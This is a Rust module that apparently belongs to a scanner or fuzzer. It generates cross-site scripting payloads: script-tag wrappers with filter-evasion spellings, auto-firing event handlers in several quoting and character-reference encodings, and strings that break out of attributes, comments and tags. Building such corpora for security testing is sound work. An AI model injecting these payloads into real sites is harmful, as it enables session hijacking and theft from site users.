//! Scripts and handlers, by themselves and behind what would free them from where they stand.

use super::{Family, Maker};

/// Elements of a script around a program.
const SCRIPTS: &[(&str, &str)] = &[
    ("<script>", "</script>"),
    ("<SCRIPT>", "</SCRIPT>"),
    ("<script/x>", "</script\t>"),
    ("<script type=module>", "</script>"),
    ("<script defer async>", "</script >"),
    ("<script>/*", "*/</script><script>//</script>"),
    ("<script>//", "</script>"),
    ("<scr<script>ipt>", "</script>"),
    ("<svg><script>", "</script></svg>"),
    ("<math><script>", "</script></math>"),
    ("<script src=\"data:text/javascript,", "\"></script>"),
    ("<script>", ""),
    ("<<script>", "//<</script>"),
];

/// Elements and the handlers that are called without anybody's doing.
const HANDLERS: &[(&str, &str)] = &[
    ("img src=x", "onerror"),
    ("IMG SRC=x", "ONERROR"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe", "onload"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# tabindex=0 autofocus", "onfocusin"),
    ("p contenteditable autofocus tabindex=1", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("style", "onload"),
    ("link rel=stylesheet href=data:text/css,", "onload"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("xss id=x tabindex=1 autofocus", "onfocus"),
    ("dialog open", "onclose"),
];

/// What would end the place that a payload stands in.
const BREAKOUTS: &[&str] = &[
    "\">",
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "<!-->",
    "<!--->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</select>",
    "</pre>",
    "</svg>",
    "*/",
    "?>",
    "%>",
    "\"/><!--",
    "<![CDATA[>",
    "<?xml ",
    "\\\">",
    "\" autofocus onfocus=\"",
];

pub(super) fn make(maker: &mut Maker) {
    for (before, after) in SCRIPTS {
        for spelling in 0..5 {
            maker.add(Family::Script, format!("{before}{}{after}", maker.code(spelling)));
        }
    }
    for (at, (element, handler)) in HANDLERS.iter().enumerate() {
        for quotes in 0..5 {
            maker.add(Family::Handler, handled(element, handler, &maker.code(at + quotes), quotes));
        }
    }
    for (at, breakout) in BREAKOUTS.iter().enumerate() {
        maker.add(Family::Breakout, format!("{breakout}{}", maker.picture(at)));
        maker.add(Family::Breakout, format!("{breakout}<script>{}</script>", maker.code(at + 1)));
        maker.add(Family::Breakout, format!("{breakout}<svg/onload={}>", maker.code(at + 3)));
    }
}

/// An element with its handler, quoted in one of the ways that browsers take.
fn handled(element: &str, handler: &str, code: &str, quotes: usize) -> String {
    match quotes {
        0 => format!("<{element} {handler}={code}>"),
        1 => format!("<{element} {handler}=\"{code}\">"),
        2 => format!("<{element} {handler}='{code}'>"),
        3 => format!("<{}/{handler}/={code}>", element.replace(' ', "/")),
        // Each letter as a character reference.
        _ => {
            let coded: String = code.chars().map(|letter| format!("&#{};", u32::from(letter))).collect();
            format!("<{element} {handler}={coded}>")
        }
    }
}
